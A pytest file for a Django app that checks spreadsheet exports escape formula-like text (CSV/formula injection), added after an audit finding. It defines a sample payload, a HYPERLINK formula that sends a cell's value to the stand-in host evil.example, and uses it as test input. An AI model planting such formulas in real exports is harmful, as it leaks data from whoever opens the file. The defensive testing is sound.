"""Issue 18, finding 6: a name typed by a manager, ``=HYPERLINK(…)``, was
exported to staff as a live formula. Every export escapes text that a
spreadsheet would run (= + - @ tab CR) with a leading apostrophe."""

import io

import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin
from openpyxl import load_workbook

from kexie.platform.lib.spreadsheets import SafeXLSX, escape_formula
from members.models import Person
from members.resources import PersonResource
from tests.outreach.factories import RegistrationFactory

pytestmark = pytest.mark.django_db
LEAK = '=HYPERLINK("http://evil.example/?leak="&C2,"点击查看")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_is_escaped(start):
    assert escape_formula(f"{start}1+1") == f"'{start}1+1"
    assert escape_formula("王小明") == "王小明"
    assert escape_formula(-3) == -3


def test_every_admin_export_uses_the_escaping_excel_format():
    for model_admin in admin.site._registry.values():
        if isinstance(model_admin, ExportMixin):
            assert model_admin.export_formats == [SafeXLSX], type(model_admin).__name__


def test_person_export_writes_a_formula_name_as_text(manager_branch):
    from tests.factories import PersonFactory

    PersonFactory(name=LEAK)
    dataset = PersonResource().export(Person.objects.all())
    # In the format the admin's export button uses.
    (export_format,) = admin.site._registry[Person].export_formats
    workbook = load_workbook(io.BytesIO(export_format().export_data(dataset)))
    values = [cell.value for row in workbook.active.iter_rows() for cell in row]
    assert "'" + LEAK in values
    assert LEAK not in values


def test_registration_export_writes_a_formula_name_as_text(staff_client):
    from tests.outreach.factories import EventFactory

    event = EventFactory()
    RegistrationFactory(event=event, name=LEAK)
    response = staff_client.get(reverse("outreach:staff_registrations_xlsx", args=[event.pk]))
    workbook = load_workbook(io.BytesIO(response.content))
    values = [cell.value for row in workbook.active.iter_rows() for cell in row]
    assert "'" + LEAK in values
